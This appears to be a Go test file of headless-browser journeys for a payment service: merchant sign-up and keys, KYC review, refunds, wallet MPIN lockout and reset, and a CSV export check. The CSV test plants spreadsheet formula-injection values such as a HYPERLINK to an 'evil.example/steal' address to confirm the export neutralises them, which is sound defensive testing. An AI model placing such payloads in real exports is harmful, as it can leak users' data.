package main

// Browser journeys of issue 6: whole web flows driven in headless
// Chromium, checked on the pages and through the API and the CLI.

import (
	"context"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	cdppage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/thaili/thaili/internal/browsertest"
)

// journeyText is the visible text of the first element matching sel.
func journeyText(t *testing.T, ctx context.Context, sel string) string {
	t.Helper()
	text, err := chromedp.Run(ctx, chromedp.Text(chromedp.CSS(sel)))
	if err != nil {
		t.Fatalf("text of %s: %v", sel, err)
	}
	return strings.TrimSpace(text)
}

// wantText fails unless the text of sel contains every one of want.
func wantText(t *testing.T, ctx context.Context, sel string, want ...string) string {
	t.Helper()
	text := journeyText(t, ctx, sel)
	for _, w := range want {
		if !strings.Contains(text, w) {
			t.Fatalf("%s: %q does not contain %q", sel, text, w)
		}
	}
	return text
}

// journeyCount is how many elements match the CSS selector sel.
func journeyCount(t *testing.T, ctx context.Context, sel string) int {
	t.Helper()
	n, err := chromedp.Run(ctx, chromedp.Evaluate[int](fmt.Sprintf(`document.querySelectorAll(%q).length`, sel)))
	if err != nil {
		t.Fatalf("count %s: %v", sel, err)
	}
	return n
}

// forget removes the elements matching sel from the current page, so
// that a following WaitVisible(sel) waits for the next page's.
func forget(sel string) chromedp.Action[chromedp.Void] {
	return chromedp.Evaluate[chromedp.Void](fmt.Sprintf(`document.querySelectorAll(%q).forEach(e => e.remove())`, sel))
}

// byID selects the element with this id; ids such as idx values may start
// with a digit, which a #id selector does not allow.
func byID(id string) string { return fmt.Sprintf(`[id=%q]`, id) }

var journeyIdxRE = regexp.MustCompile(`merchant (\S+)$`)

// browserMerchant signs a merchant up at /join/merchant/ in the browser
// and confirms the phone with the logged code. It returns the test keys
// the first Keys page shows (the secret once, behind its reveal; then "I
// have saved it") and the merchant's idx; the browser ends on the
// overview, signed in.
func browserMerchant(t *testing.T, ctx context.Context, s *testServer, shot, name, email, phone string) (pk, sk, idx string) {
	t.Helper()
	step(t, ctx, "open sign-up", chromedp.Navigate(s.URL+"/join/merchant/"), chromedp.WaitVisible(chromedp.CSS("#name")))
	step(t, ctx, "sign up", chromedp.SendKeys(chromedp.CSS("#name"), name), chromedp.SendKeys(chromedp.CSS("#email"), email),
		chromedp.SendKeys(chromedp.CSS("#phone"), phone), chromedp.SendKeys(chromedp.CSS("#password"), "a long enough password"),
		chromedp.Click(chromedp.CSS("#signup")), chromedp.WaitVisible(chromedp.CSS("#code")))
	browsertest.Screenshot(t, ctx, shot+"-confirm")
	step(t, ctx, "confirm the phone", chromedp.SendKeys(chromedp.CSS("#code"), s.lastAccountCode(t, phone)), chromedp.Click(chromedp.CSS("#confirm")),
		chromedp.WaitVisible(chromedp.CSS("#new-secret-test")))
	wantText(t, ctx, "#new-secret-test", "shown only this once")
	step(t, ctx, "reveal the secret", chromedp.Click(chromedp.CSS("#reveal-test summary")), chromedp.WaitVisible(chromedp.CSS("#new-secret-key-test")))
	pk, sk = journeyText(t, ctx, ".key-test-public code"), journeyText(t, ctx, "#new-secret-key-test")
	if !dashTestPublicRE.MatchString(pk) || !dashTestSecretRE.MatchString(sk) {
		t.Fatalf("test keys on the first keys page: %q %q", pk, sk)
	}
	step(t, ctx, "I have saved it", forget("#keys"), chromedp.Click(chromedp.CSS("#saved-test")), chromedp.WaitVisible(chromedp.CSS("#keys")),
		chromedp.Navigate(s.URL+"/dashboard/"), chromedp.WaitVisible(chromedp.CSS("#checklist")))
	if got := journeyText(t, ctx, "#merchant-name"); got != name {
		t.Fatalf("dashboard name %q, want %q", got, name)
	}
	m := journeyIdxRE.FindStringSubmatch(journeyText(t, ctx, "#merchant-id"))
	if m == nil {
		t.Fatalf("no merchant idx on the dashboard: %q", pageText(t, ctx))
	}
	return pk, sk, m[1]
}

// browserOperator creates an operator and signs it in at /admin/ in a
// browser of its own.
func browserOperator(t *testing.T, s *testServer, shot string) context.Context {
	t.Helper()
	const email, password = "ops@journey.example", "operator password 1"
	s.cliOK(t, "admin", "create", "--email", email, "--password", password)
	ctx := browsertest.New(t, 60*time.Second)
	step(t, ctx, "operator login form", chromedp.Navigate(s.URL+"/admin/"), chromedp.WaitVisible(chromedp.CSS("#email")))
	step(t, ctx, "operator login", chromedp.SendKeys(chromedp.CSS("#email"), email), chromedp.SendKeys(chromedp.CSS("#password"), password),
		chromedp.Click(chromedp.CSS("#login")), chromedp.WaitVisible(chromedp.CSS("#ledger-ok")))
	wantText(t, ctx, "header .user", email)
	browsertest.Screenshot(t, ctx, shot+"-console")
	return ctx
}

// payerBalance is the test balance of a wallet in paisa, read by topping
// it up with one paisa (so every call adds 1).
func payerBalance(t *testing.T, s *testServer, mobile string) int64 {
	t.Helper()
	m := cliBalanceRE.FindStringSubmatch(s.cliOK(t, "consumer", "topup", "--mobile", mobile, "--amount", "1"))
	if m == nil {
		t.Fatalf("no balance for %s", mobile)
	}
	n, _ := strconv.ParseInt(m[1], 10, 64)
	return n
}

// TestBrowserJourneyMerchantGoLive: sign up, read the test keys, make a
// first test payment with them; the dashboard then ticks the checklist and
// shows live keys, the live secret only once.
func TestBrowserJourneyMerchantGoLive(t *testing.T) {
	s := startServer(t)
	ctx := browsertest.New(t, 60*time.Second)
	pk, sk, _ := browserMerchant(t, ctx, s, "journey-golive-1", "Bhaktapur Pottery", "pots@bhaktapur.example", "9812340011")

	// The overview and Keys, once reloaded: the test public key in full,
	// the secret as a prefix only, nothing live yet.
	step(t, ctx, "reload the dashboard", chromedp.Reload(), chromedp.WaitVisible(chromedp.CSS("#checklist")))
	wantText(t, ctx, "#check-test-payment", "○ Complete a test payment")
	wantText(t, ctx, "#check-kyc", "○ KYC approved")
	wantText(t, ctx, ".balance-test", "Rs 0.00")
	browsertest.Screenshot(t, ctx, "journey-golive-2-dashboard")
	step(t, ctx, "keys", chromedp.Navigate(s.URL+"/dashboard/keys/"), chromedp.WaitVisible(chromedp.CSS("#keys")))
	wantText(t, ctx, ".key-test-public code", pk)
	if shown := journeyText(t, ctx, ".key-test-secret code"); !strings.HasPrefix(sk, strings.TrimSuffix(shown, "…")) || len(shown) >= len(sk) {
		t.Fatalf("test secret on the keys page: %q (secret %q)", shown, sk)
	}
	text := pageText(t, ctx)
	if strings.Contains(text, sk) || dashLivePublicRE.MatchString(text) || journeyCount(t, ctx, "[class^=key-live]") != 0 || journeyCount(t, ctx, "#rotate-live") != 0 {
		t.Fatalf("keys before the first payment: %q", text)
	}

	// The first test payment, with the keys read from the pages.
	_, idx := s.pay(t, pk, sk, "9800000001", 1000)

	step(t, ctx, "the overview", chromedp.Navigate(s.URL+"/dashboard/"), chromedp.WaitVisible(chromedp.CSS("#checklist")))
	wantText(t, ctx, "#check-test-payment", "✓ Completed a test payment")
	wantText(t, ctx, "#check-kyc", "○ KYC approved")
	wantText(t, ctx, ".balance-test", "Rs 9.70")
	wantText(t, ctx, "#secret-waiting", "live")
	step(t, ctx, "the live keys", chromedp.Click(chromedp.CSS("#reveal-link")), chromedp.WaitVisible(chromedp.CSS("#new-secret-live")),
		chromedp.Click(chromedp.CSS("#reveal-live summary")), chromedp.WaitVisible(chromedp.CSS("#new-secret-key-live")))
	livePK := journeyText(t, ctx, ".key-live-public code")
	liveSK := journeyText(t, ctx, "#new-secret-key-live")
	if !dashLivePublicRE.MatchString(livePK) || !dashLiveSecretRE.MatchString(liveSK) {
		t.Fatalf("live keys after the test payment: %q %q", livePK, liveSK)
	}
	wantText(t, ctx, "#new-secret-live", "shown only this once")
	wantText(t, ctx, "#rotate-live", "Rotate live keys")
	browsertest.Screenshot(t, ctx, "journey-golive-3-live-keys")

	// The live secret works, and is not shown again.
	if r := s.do(t, "GET", "/api/v2/merchant-transaction/", liveSK, ""); r.Status != 200 || fmt.Sprint(r.Body["total_records"]) != "0" {
		t.Fatalf("live secret from the dashboard: %d %s", r.Status, r.Raw)
	}
	if r := s.do(t, "GET", "/api/v2/merchant-transaction/"+idx+"/", sk, ""); r.Status != 200 || r.Body["state"].(map[string]any)["name"] != "Completed" {
		t.Fatalf("the test payment: %d %s", r.Status, r.Raw)
	}
	step(t, ctx, "reload again", chromedp.Reload(), chromedp.WaitVisible(chromedp.CSS("#keys")))
	text = pageText(t, ctx)
	if strings.Contains(text, liveSK) || !strings.Contains(text, livePK) || journeyCount(t, ctx, "#new-secret-live") != 0 {
		t.Fatalf("after another reload the live secret is shown again or the public key is gone: %q", text)
	}
	if shown := journeyText(t, ctx, ".key-live-secret code"); !strings.HasPrefix(liveSK, strings.TrimSuffix(shown, "…")) {
		t.Fatalf("live secret prefix %q does not match %q", shown, liveSK)
	}
	step(t, ctx, "the overview again", chromedp.Navigate(s.URL+"/dashboard/"), chromedp.WaitVisible(chromedp.CSS("#checklist")))
	wantText(t, ctx, "#check-test-payment", "✓ Completed a test payment")
	if journeyCount(t, ctx, "#secret-waiting") != 0 {
		t.Fatal("the overview still says a secret is waiting")
	}
	browsertest.Screenshot(t, ctx, "journey-golive-4-reloaded")
	s.ledgerOK(t)
}

// TestBrowserJourneyKYCApproval: a payment above Rs 200 is refused; the
// merchant submits KYC with a real PNG upload; an operator reviews the
// document and approves in the console; the payment then goes through.
func TestBrowserJourneyKYCApproval(t *testing.T) {
	s := startServer(t)
	ctx := browsertest.New(t, 60*time.Second)
	pk, sk, idx := browserMerchant(t, ctx, s, "journey-kyc-1", "Himal Traders", "himal@journey.example", "9812340021")
	wantText(t, ctx, "#kyc", "none")

	bigPayment := func() response {
		return s.do(t, "POST", "/api/v2/payment/initiate/", "", jsonBody(t, map[string]any{"public_key": pk, "mobile": "9800000001",
			"transaction_pin": "1111", "amount": 50000, "product_identity": "p1", "product_name": "Product"}))
	}
	if r := bigPayment(); r.Status != 400 || !strings.Contains(r.Raw, "Amount must be less than 200.") {
		t.Fatalf("Rs 500 before KYC: %d %s", r.Status, r.Raw)
	}

	// The KYC form, with a real file chosen in the file input.
	pngData := testPNG(t)
	pngPath := filepath.Join(t.TempDir(), "certificate.png")
	if err := os.WriteFile(pngPath, pngData, 0o644); err != nil {
		t.Fatal(err)
	}
	step(t, ctx, "open the KYC form", chromedp.Click(chromedp.CSS("#check-kyc-link")), chromedp.WaitVisible(chromedp.CSS("#business_name")))
	wantText(t, ctx, "#kyc-state", "none")
	step(t, ctx, "fill the KYC form", chromedp.SendKeys(chromedp.CSS("#business_name"), "Himal Traders Pvt. Ltd."),
		chromedp.SendKeys(chromedp.CSS("#registration_number"), "123456/078/079"), chromedp.SendKeys(chromedp.CSS("#tax_number"), "601234567"),
		chromedp.SendKeys(chromedp.CSS("#address"), "Thamel, Kathmandu"), chromedp.SetUploadFiles(chromedp.CSS("#documents"), []string{pngPath}))
	files, err := chromedp.Run(ctx, chromedp.Evaluate[int](`document.querySelector("#documents").files.length`))
	if err != nil || files != 1 {
		t.Fatalf("files chosen: %d %v", files, err)
	}
	browsertest.Screenshot(t, ctx, "journey-kyc-2-form")
	step(t, ctx, "submit KYC", chromedp.Click(chromedp.CSS("#submit-kyc")), chromedp.WaitVisible(chromedp.CSS("#kyc-details")))
	wantText(t, ctx, "#notice", "were submitted")
	wantText(t, ctx, "#kyc-state", "submitted")
	wantText(t, ctx, "#kyc-business-name", "Himal Traders Pvt. Ltd.")
	wantText(t, ctx, "#kyc-documents", fmt.Sprintf("image/png, %d bytes", len(pngData)))
	if journeyCount(t, ctx, "#kyc-form") != 0 {
		t.Fatal("the KYC form is still offered after submitting")
	}
	browsertest.Screenshot(t, ctx, "journey-kyc-3-submitted")
	if r := bigPayment(); r.Status != 400 || !strings.Contains(r.Raw, "Amount must be less than 200.") {
		t.Fatalf("Rs 500 with KYC submitted: %d %s", r.Status, r.Raw)
	}

	// The operator finds it in the KYC queue, downloads the document (the
	// very bytes uploaded) and approves.
	op := browserOperator(t, s, "journey-kyc-4")
	wantText(t, ctx, "body", "Himal Traders") // still the merchant's page
	wantText(t, op, "#kyc-queue", "Himal Traders", "himal@journey.example")
	step(t, op, "review", chromedp.Click(chromedp.CSS(`#kyc-queue a[href^="/admin/merchants/"]`)), chromedp.WaitVisible(chromedp.CSS("#results")))
	row := byID("merchant-" + idx)
	wantText(t, op, row, "Himal Traders", "submitted", "123456/078/079", "601234567", "Thamel, Kathmandu", fmt.Sprintf("image/png, %d bytes", len(pngData)))
	browsertest.Screenshot(t, op, "journey-kyc-5-review")
	docURL, err := chromedp.Run(op, chromedp.Evaluate[string](fmt.Sprintf(`document.querySelector(%q).href`, row+` a[href*="/documents/"]`)))
	if err != nil {
		t.Fatalf("document link: %v", err)
	}
	dl := browserFetch(t, op, docURL)
	doc := dl.Bytes
	if dl.Status != 200 || dl.Type != "image/png" || !strings.HasPrefix(dl.Disposition, "attachment;") || len(doc) != len(pngData) {
		t.Fatalf("document download: %d %q %q, %d bytes, uploaded %d", dl.Status, dl.Type, dl.Disposition, len(doc), len(pngData))
	}
	for i := range doc {
		if byte(doc[i]) != pngData[i] {
			t.Fatalf("downloaded document differs at byte %d", i)
		}
	}
	step(t, op, "approve", chromedp.Click(chromedp.CSS(row+` form:has(input[name=decision][value=approve]) button`)),
		chromedp.WaitVisible(chromedp.CSS("#notice")))
	wantText(t, op, "#notice", "KYC of Himal Traders is now approved.")
	wantText(t, op, row+" td.kyc", "approved")
	browsertest.Screenshot(t, op, "journey-kyc-6-approved")
	step(t, op, "audit log", chromedp.Navigate(s.URL+"/admin/audit/"), chromedp.WaitVisible(chromedp.CSS("#audit")))
	wantText(t, op, "#audit", "kyc.approve", idx, "kyc.document")

	// The merchant sees it; the Rs 500 payment now succeeds.
	step(t, ctx, "KYC page after approval", chromedp.Reload(), chromedp.WaitVisible(chromedp.CSS("#kyc-state")))
	wantText(t, ctx, "#kyc-state", "approved")
	if journeyCount(t, ctx, "#kyc-form") != 0 {
		t.Fatal("the KYC form is offered after approval")
	}
	browsertest.Screenshot(t, ctx, "journey-kyc-7-merchant-approved")
	step(t, ctx, "dashboard after approval", chromedp.Navigate(s.URL+"/dashboard/"), chromedp.WaitVisible(chromedp.CSS("#checklist")))
	wantText(t, ctx, "#kyc", "approved")
	wantText(t, ctx, "#check-kyc", "✓ KYC approved")
	_, payIdx := s.pay(t, pk, sk, "9800000001", 50000)
	if r := s.do(t, "GET", "/api/v2/merchant-transaction/"+payIdx+"/", sk, ""); r.Status != 200 || fmt.Sprint(r.Body["amount"]) != "50000" ||
		r.Body["state"].(map[string]any)["name"] != "Completed" {
		t.Fatalf("Rs 500 payment after approval: %d %s", r.Status, r.Raw)
	}
	s.ledgerOK(t)
}

// TestBrowserJourneyDashboardRefund: a completed payment is refunded from
// its dashboard page, first in part and then the rest.
func TestBrowserJourneyDashboardRefund(t *testing.T) {
	s := startServer(t)
	ctx := browsertest.New(t, 60*time.Second)
	pk, sk, _ := browserMerchant(t, ctx, s, "journey-refund-1", "Patan Metalworks", "metal@patan.example", "9812340031")
	const payer = "9800000001"
	payOrder(t, s, pk, sk, "ORD-1", "Singing bowl", 10000, true) // funds the balance refunds come from
	idx := payOrder(t, s, pk, sk, "ORD-2", "Brass lamp", 5000, true)
	before := payerBalance(t, s, payer)

	step(t, ctx, "transactions", chromedp.Click(chromedp.CSS("#transactions-link")), chromedp.WaitVisible(chromedp.CSS("#transactions")))
	row := byID("tx-" + idx)
	wantText(t, ctx, "#count", "2 transactions")
	wantText(t, ctx, row, "ORD-2", "Brass lamp", "98XXXXXXX1", "Rs 50.00", "Completed")
	browsertest.Screenshot(t, ctx, "journey-refund-2-table")
	step(t, ctx, "open the transaction", chromedp.Click(chromedp.CSS(row+" a")), chromedp.WaitVisible(chromedp.CSS("#record")))
	wantText(t, ctx, "#idx", idx)
	wantText(t, ctx, "#state", "Completed")
	wantText(t, ctx, "td#amount", "Rs 50.00")
	wantText(t, ctx, "#fee", "Rs 1.50")
	wantText(t, ctx, "#remaining", "Rs 50.00")
	wantText(t, ctx, "#refund-full", "Refund the full remaining Rs 50.00")
	browsertest.Screenshot(t, ctx, "journey-refund-3-detail")

	// Part: Rs 12.50. (The detail table and the form both have an
	// element with id "amount"; the form's input is the second.)
	step(t, ctx, "partial refund", chromedp.SendKeys(chromedp.CSS(`#refund input[name=amount]`), "12.50"),
		chromedp.Click(chromedp.CSS("#refund-partial")), chromedp.WaitVisible(chromedp.CSS("#notice")))
	wantText(t, ctx, "#notice", "Rs 12.50 was refunded to the payer.")
	wantText(t, ctx, "#state", "Partially refunded")
	wantText(t, ctx, "#refunded", "Rs 12.50")
	wantText(t, ctx, "#remaining", "Rs 37.50")
	wantText(t, ctx, "#refund-full", "Refund the full remaining Rs 37.50")
	browsertest.Screenshot(t, ctx, "journey-refund-4-partial")
	api := s.do(t, "GET", "/api/v2/merchant-transaction/"+idx+"/", sk, "")
	if api.Body["state"].(map[string]any)["name"] != "Partially refunded" || api.Body["refunded"] != true {
		t.Fatalf("API after the partial refund: %s", api.Raw)
	}
	if got := payerBalance(t, s, payer); got != before+1+1250 {
		t.Fatalf("payer balance after the partial refund %d, want %d", got, before+1+1250)
	}

	// The rest.
	step(t, ctx, "full refund", forget("#notice"), chromedp.Click(chromedp.CSS("#refund-full")), chromedp.WaitVisible(chromedp.CSS("#notice")))
	wantText(t, ctx, "#notice", "The remaining amount was refunded")
	wantText(t, ctx, "#state", "Refunded")
	wantText(t, ctx, "#refunded", "Rs 50.00")
	wantText(t, ctx, "#remaining", "Rs 0.00")
	wantText(t, ctx, "#no-refund", "This transaction is fully refunded.")
	if journeyCount(t, ctx, "#refund-full") != 0 || journeyCount(t, ctx, "#refund-partial") != 0 {
		t.Fatal("refund buttons on a fully refunded transaction")
	}
	browsertest.Screenshot(t, ctx, "journey-refund-5-full")
	api = s.do(t, "GET", "/api/v2/merchant-transaction/"+idx+"/", sk, "")
	if api.Body["state"].(map[string]any)["name"] != "Refunded" {
		t.Fatalf("API after the full refund: %s", api.Raw)
	}
	if got := payerBalance(t, s, payer); got != before+2+5000 {
		t.Fatalf("payer balance after the full refund %d, want %d (all Rs 50 back)", got, before+2+5000)
	}

	// The table and the balance agree: 97 + 48.50 - 50.
	step(t, ctx, "back to the table", chromedp.Click(chromedp.CSS("#back")), chromedp.WaitVisible(chromedp.CSS("#transactions")))
	wantText(t, ctx, row+" td.state", "Refunded")
	wantText(t, ctx, row+" td.refunded", "Rs 50.00")
	step(t, ctx, "dashboard", chromedp.Navigate(s.URL+"/dashboard/"), chromedp.WaitVisible(chromedp.CSS(".balance-test")))
	wantText(t, ctx, ".balance-test", "Rs 95.50")
	s.ledgerOK(t)
}

// TestBrowserJourneyConsumer: a consumer opens a wallet at /join/, an
// operator tops it up in the console, the consumer pays on the hosted
// page, locks the wallet with three wrong MPINs, is told so on the wallet
// page, resets the MPIN with a code sent to the phone (the sandbox's log)
// and pays again.
func TestBrowserJourneyConsumer(t *testing.T) {
	s := startServer(t)
	rr := newReturnRecorder(t)
	ctx := browsertest.New(t, 60*time.Second)
	const mobile, mpin, newMPIN = "9812340041", "2580", "1357"

	step(t, ctx, "open sign-up", chromedp.Navigate(s.URL+"/join/"), chromedp.WaitVisible(chromedp.CSS("#mpin2")))
	step(t, ctx, "sign up", chromedp.SendKeys(chromedp.CSS("#mobile"), mobile), chromedp.SendKeys(chromedp.CSS("#name"), "Sita Sharma"),
		chromedp.SendKeys(chromedp.CSS("#mpin"), mpin), chromedp.SendKeys(chromedp.CSS("#mpin2"), mpin))
	browsertest.Screenshot(t, ctx, "journey-consumer-1-signup")
	step(t, ctx, "submit sign-up", chromedp.Click(chromedp.CSS("#signup")), chromedp.WaitVisible(chromedp.CSS("#code")))
	wantText(t, ctx, "main", "98XXXXX041")
	code := s.lastAccountCode(t, mobile)
	step(t, ctx, "confirm", chromedp.SendKeys(chromedp.CSS("#code"), code), chromedp.Click(chromedp.CSS("#confirm")), chromedp.WaitVisible(chromedp.CSS("#balances")))
	wantText(t, ctx, "#consumer-name", "Sita Sharma")
	wantText(t, ctx, ".balance-test", "Rs 0.00")
	wantText(t, ctx, "#notices", "Nothing to report.")
	if strings.Contains(pageText(t, ctx), code) {
		t.Fatal("the wallet page shows the sign-up code")
	}
	browsertest.Screenshot(t, ctx, "journey-consumer-2-wallet")

	// The operator tops the new wallet up by Rs 500, typed in rupees.
	op := browserOperator(t, s, "journey-consumer-3")
	wallet := byID("wallet-" + mobile)
	step(t, op, "wallets", chromedp.Navigate(s.URL+"/admin/consumers/"), chromedp.WaitVisible(chromedp.CSS("#q")), forget("#results"),
		chromedp.SendKeys(chromedp.CSS("#q"), mobile), chromedp.Click(chromedp.CSS("#search")), chromedp.WaitVisible(chromedp.CSS(wallet)))
	wantText(t, op, wallet, "Sita Sharma")
	step(t, op, "top up", chromedp.SendKeys(chromedp.CSS(byID("amount-"+mobile)), "500"),
		chromedp.SetValue(chromedp.CSS(wallet+` select[name=book]`), "test"),
		chromedp.Click(chromedp.CSS(wallet+` form[action="/admin/consumers/topup"] button`)), chromedp.WaitVisible(chromedp.CSS("#notice")))
	wantText(t, op, "#notice", "Credited Rs 500.00 to "+mobile)
	wantText(t, op, wallet+" .balance-test", "Rs 500.00")
	browsertest.Screenshot(t, op, "journey-consumer-4-topup")
	step(t, ctx, "wallet after the top-up", chromedp.Reload(), chromedp.WaitVisible(chromedp.CSS("#balances")))
	wantText(t, ctx, ".balance-test", "Rs 500.00")

	// Pay Rs 25 on the hosted page with the new wallet.
	pay := func(what, payURL, pin string) {
		t.Helper()
		step(t, ctx, what+": open", chromedp.Navigate(payURL), chromedp.WaitVisible(chromedp.CSS("#mobile")))
		step(t, ctx, what+": sign in", chromedp.SetValue(chromedp.CSS("#mobile"), mobile), chromedp.SendKeys(chromedp.CSS("#mpin"), pin),
			chromedp.Submit(chromedp.CSS("#mpin")), chromedp.WaitVisible(chromedp.CSS("#code")))
		step(t, ctx, what+": pay", chromedp.SendKeys(chromedp.CSS("#code"), "987654"),
			chromedp.Submit(chromedp.CSS("#code")), chromedp.WaitVisible(chromedp.CSS("#back")))
	}
	pidx1, url1 := browserEPayment(t, s, rr)
	pay("first payment", url1, mpin)
	if q := rr.last(t); q.Get("pidx") != pidx1 || q.Get("status") != "Completed" || q.Get("mobile") != "98XXXXX041" {
		t.Fatalf("return after the first payment: %v", q)
	}

	// Three wrong MPINs on the hosted page lock the wallet.
	pidx2, url2 := browserEPayment(t, s, rr)
	step(t, ctx, "open the second payment", chromedp.Navigate(url2), chromedp.WaitVisible(chromedp.CSS("#mobile")))
	for i, want := range []string{"2 tries left.", "1 try left.", "locked"} {
		step(t, ctx, fmt.Sprintf("wrong MPIN %d", i+1), forget(".error"), chromedp.SetValue(chromedp.CSS("#mobile"), mobile),
			chromedp.SendKeys(chromedp.CSS("#mpin"), "0000"), chromedp.Submit(chromedp.CSS("#mpin")), chromedp.WaitVisible(chromedp.CSS(".error")))
		wantText(t, ctx, ".error", want)
	}
	wantText(t, ctx, ".error", "Your wallet is locked for payments after 3 wrong MPINs in a row. Try again in 30 minutes, or reset your MPIN to unlock it now.")
	// The locked page links to the MPIN reset.
	if href, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.querySelector(".error a#reset-mpin").getAttribute("href")`)); err != nil || href != "/me/reset/" {
		t.Fatalf("link to the MPIN reset on the locked page: %q %v", href, err)
	}
	browsertest.Screenshot(t, ctx, "journey-consumer-5-locked")
	step(t, ctx, "right MPIN while locked", forget(".error"), chromedp.SetValue(chromedp.CSS("#mobile"), mobile),
		chromedp.SendKeys(chromedp.CSS("#mpin"), mpin), chromedp.Submit(chromedp.CSS("#mpin")), chromedp.WaitVisible(chromedp.CSS(".error")))
	wantText(t, ctx, ".error", "locked")
	if journeyCount(t, ctx, "#code") != 0 {
		t.Fatal("a locked wallet reached the code step")
	}

	// The wallet page says the wallet was locked, where and until when.
	step(t, ctx, "locked wallet", chromedp.Navigate(s.URL+"/me/"), chromedp.WaitVisible(chromedp.CSS("#locked")))
	wantText(t, ctx, "#locked", "locked for payments after wrong MPINs until")
	wantText(t, ctx, "#notices", "Your wallet was locked after 3 wrong MPINs in a row, the last one on the payment page of Thaili Demo Shop")
	browsertest.Screenshot(t, ctx, "journey-consumer-6-wallet-locked")
	// Reset the MPIN from the wallet, with the code sent to the phone.
	step(t, ctx, "ask for a reset code", chromedp.Click(chromedp.CSS("#reset-mpin")), chromedp.WaitVisible(chromedp.CSS("#mpin2")))
	wantText(t, ctx, "main", "98XXXXX041")
	resetCode := s.lastAccountCode(t, mobile)
	if resetCode == code {
		t.Fatal("no new code was sent for the reset")
	}
	browsertest.Screenshot(t, ctx, "journey-consumer-7-reset-code")
	step(t, ctx, "set the new MPIN", chromedp.SendKeys(chromedp.CSS("#code"), resetCode), chromedp.SendKeys(chromedp.CSS("#mpin"), newMPIN),
		chromedp.SendKeys(chromedp.CSS("#mpin2"), newMPIN), forget("#notice"), chromedp.Click(chromedp.CSS("#reset")), chromedp.WaitVisible(chromedp.CSS("#notice")))
	wantText(t, ctx, "#notice", "Your new MPIN is set and the wallet is unlocked.")
	if journeyCount(t, ctx, "#locked") != 0 {
		t.Fatalf("still locked after the reset: %q", pageText(t, ctx))
	}
	browsertest.Screenshot(t, ctx, "journey-consumer-8-reset")

	// The old MPIN is refused (not locked), the new one pays.
	step(t, ctx, "old MPIN", chromedp.Navigate(url2), chromedp.WaitVisible(chromedp.CSS("#mobile")), chromedp.SetValue(chromedp.CSS("#mobile"), mobile),
		chromedp.SendKeys(chromedp.CSS("#mpin"), mpin), chromedp.Submit(chromedp.CSS("#mpin")), chromedp.WaitVisible(chromedp.CSS(".error")))
	wantText(t, ctx, ".error", "Wrong mobile number or MPIN.", "2 tries left.")
	pay("payment after the reset", url2, newMPIN)
	if q := rr.last(t); q.Get("pidx") != pidx2 || q.Get("status") != "Completed" {
		t.Fatalf("return after the reset: %v", q)
	}
	browsertest.Screenshot(t, ctx, "journey-consumer-9-paid")
	for _, pidx := range []string{pidx1, pidx2} {
		if r := s.do(t, "POST", "/api/v2/epayment/lookup/", testSK, `{"pidx":"`+pidx+`"}`); r.Body["status"] != "Completed" {
			t.Fatalf("lookup %s: %s", pidx, r.Raw)
		}
	}
	step(t, ctx, "wallet at the end", chromedp.Navigate(s.URL+"/me/"), chromedp.WaitVisible(chromedp.CSS("#balances")))
	wantText(t, ctx, ".balance-test", "Rs 450.00")
	if n := journeyCount(t, ctx, "#history tr.payment"); n != 2 {
		t.Fatalf("wallet history has %d payments, want 2", n)
	}
	browsertest.Screenshot(t, ctx, "journey-consumer-10-wallet")
	s.ledgerOK(t)
}

// download is what a signed-in fetch from the current page gave.
type download struct {
	Status      int    `json:"status"`
	URL         string `json:"url"`
	Type        string `json:"type"`
	Disposition string `json:"disposition"`
	Body        string `json:"body"`
	Bytes       []int  `json:"bytes"`
}

// browserFetch fetches href from the current page with the browser's
// cookies, as a download link would. The pages' CSP (default-src 'none')
// rightly blocks a script's fetch, so the tab bypasses CSP from here on
// and the page is reloaded for that to take effect.
func browserFetch(t *testing.T, ctx context.Context, href string) download {
	t.Helper()
	step(t, ctx, "bypass CSP", chromedp.Func(func(ctx context.Context, tg *chromedp.Target) error {
		_, err := cdp.Call(ctx, tg, cdppage.SetBypassCSP, cdppage.SetBypassCSPParams{Enabled: true})
		return err
	}), chromedp.Reload(), chromedp.WaitReady(chromedp.CSS("body")))
	d, err := chromedp.Run(ctx, chromedp.Evaluate[download](fmt.Sprintf(`fetch(%q, {credentials: "same-origin"}).then(async r => {
		const b = new Uint8Array(await r.arrayBuffer());
		return {status: r.status, url: r.url, type: r.headers.get("Content-Type") || "",
			disposition: r.headers.get("Content-Disposition") || "", body: new TextDecoder().decode(b), bytes: Array.from(b)};
	})`, href), chromedp.EvalAwaitPromise))
	if err != nil {
		t.Fatalf("fetch %s: %v", href, err)
	}
	return d
}

// TestBrowserJourneyCSVExport downloads the transactions CSV in a
// signed-in browser and checks every row, formula cells neutralised.
func TestBrowserJourneyCSVExport(t *testing.T) {
	s := startServer(t)
	ctx := browsertest.New(t, 60*time.Second)
	const name = `=HYPERLINK("http://evil.example/","Shop")`
	pk, sk, _ := browserMerchant(t, ctx, s, "journey-csv-1", name, "csv@journey.example", "9812340051")
	const evilOrder, evilProduct = `=HYPERLINK("http://evil.example/steal?x=1","Click me")`, "+SUM(1,2)"
	tea := payOrder(t, s, pk, sk, "ORD-1", "Tea", 1000, true)
	evil := payOrder(t, s, pk, sk, evilOrder, evilProduct, 2500, true)
	cake := payOrder(t, s, pk, sk, "ORD-3", "-Cake", 3000, false) // confirmed, not captured
	if r := s.do(t, "POST", "/api/v2/epayment/merchant-transaction/"+tea+"/refund/", sk, `{"amount": 400}`); r.Status != 200 {
		t.Fatalf("partial refund: %d %s", r.Status, r.Raw)
	}

	step(t, ctx, "transactions", chromedp.Click(chromedp.CSS("#transactions-link")), chromedp.WaitVisible(chromedp.CSS("#csv")))
	wantText(t, ctx, "#count", "3 transactions")
	// On the page the formula is plain text, not a link.
	wantText(t, ctx, byID("tx-"+evil), evilOrder, evilProduct, "Rs 25.00", "Completed")
	if journeyCount(t, ctx, `a[href*="evil.example"]`) != 0 {
		t.Fatal("the order id became a link")
	}
	browsertest.Screenshot(t, ctx, "journey-csv-2-table")
	href, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.querySelector("#csv").href`))
	if err != nil || !strings.HasPrefix(href, s.URL+"/dashboard/transactions.csv?") {
		t.Fatalf("CSV link %q %v", href, err)
	}
	d := browserFetch(t, ctx, href)
	if d.Status != 200 || !strings.HasPrefix(d.Type, "text/csv") || d.Disposition != `attachment; filename="thaili-test-transactions.csv"` {
